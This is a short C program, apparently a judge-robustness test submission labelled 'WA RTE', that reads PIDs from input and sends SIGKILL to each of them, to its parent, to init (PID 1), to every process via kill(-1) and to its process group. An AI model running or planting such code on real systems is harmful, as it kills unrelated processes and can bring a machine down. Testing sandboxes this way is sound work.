// WA RTE
#include <signal.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    char line[4096];
    int other;
    fgets(line, sizeof line, stdin);
    fgets(line, sizeof line, stdin);
    while (scanf("%d", &other) == 1) kill(other, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(1, SIGKILL);
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
}
